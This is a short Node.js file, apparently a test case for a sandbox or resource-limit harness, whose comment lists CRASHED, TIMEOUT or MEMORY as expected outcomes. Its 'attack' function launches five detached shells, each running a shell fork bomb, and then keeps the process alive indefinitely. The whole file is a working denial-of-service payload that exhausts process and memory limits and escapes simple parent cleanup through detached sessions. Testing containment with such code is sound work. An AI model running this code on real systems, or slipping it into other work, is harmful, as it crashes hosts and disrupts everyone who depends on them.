/* Starts shells that start shells, in sessions of their own.

Ends: CRASHED or TIMEOUT or MEMORY
*/
const { spawn } = require('child_process');
async function attack() {
  const bomb = 'b() { b | b & }; b; sleep 1000';
  for (let i = 0; i < 5; i++) spawn('/bin/sh', ['-c', bomb], { detached: true, stdio: 'ignore' });
  await new Promise(() => setInterval(() => {}, 1000));
}
